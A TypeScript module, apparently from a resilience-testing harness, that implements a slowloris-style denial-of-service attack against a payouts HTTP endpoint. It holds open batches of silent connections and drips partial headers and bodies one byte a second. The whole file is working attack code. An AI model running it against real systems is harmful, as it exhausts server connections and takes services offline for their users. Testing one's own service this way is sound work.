/** Connections that take room and send little: silent ones, and requests whose headers or body come a byte a second. */
import { randomUUID } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack, Running } from './attack.ts';

/** Connections opened together; a server's queue of new connections is longer (511). */
const OPENED_AT_ONCE = 100;
const DRIP_MS = 1_000;
/** All connections are open by then, before the server misses the first bytes. */
const PATIENCE_MS = 30_000;

interface Line {
  readonly opening: string;
  readonly drips: boolean;
  socket: Socket | undefined;
}

export function keepIdle(attack: Extract<Attack, { kind: 'idle' }>, count: (outcome: string) => void): Running {
  const { hostname, port, host } = new URL(attack.url);
  const halfHeaders = `GET /v1/payouts HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `;
  const halfBody = [
    'POST /v1/payouts HTTP/1.1',
    `Host: ${host}`,
    `Authorization: Bearer ${attack.key}`,
    'Content-Type: application/json',
    'Content-Length: 1000',
    `Idempotency-Key: ${randomUUID()}`,
    '',
    '{"',
  ].join('\r\n');
  const lines: Line[] = [
    ...linesOf(attack.silent, '', false),
    ...linesOf(attack.halfHeaders, halfHeaders, true),
    ...linesOf(attack.halfBodies, halfBody, true),
  ];
  let ended = false;

  function open(line: Line): Promise<void> {
    return new Promise((resolve) => {
      const socket = connect(Number(port), hostname, () => {
        count('opened');
        if (line.opening) socket.write(line.opening);
        resolve();
      });
      socket.on('error', () => undefined);
      socket.resume();
      socket.once('close', () => {
        line.socket = undefined;
        if (!ended) count('closed by the server');
        resolve();
      });
      line.socket = socket;
    });
  }

  async function keepOpen(): Promise<void> {
    while (!ended) {
      const closed = lines.filter(({ socket }) => !socket);
      for (let from = 0; from < closed.length && !ended; from += OPENED_AT_ONCE)
        await Promise.all(closed.slice(from, from + OPENED_AT_ONCE).map(open));
      for (const { socket, drips } of lines) if (drips && socket?.writable) socket.write('a');
      await delay(DRIP_MS);
    }
  }

  const keeping = keepOpen();
  const allOpen = (async () => {
    while (!ended && lines.some(({ socket }) => !socket || socket.connecting)) await delay(20);
  })();
  return {
    underWay: Promise.race([allOpen, keeping, delay(PATIENCE_MS, undefined, { ref: false })]),
    end() {
      ended = true;
      for (const { socket } of lines) socket?.destroy();
    },
  };
}

function linesOf(count: number, opening: string, drips: boolean): Line[] {
  return Array.from({ length: count }, () => ({ opening, drips, socket: undefined }));
}
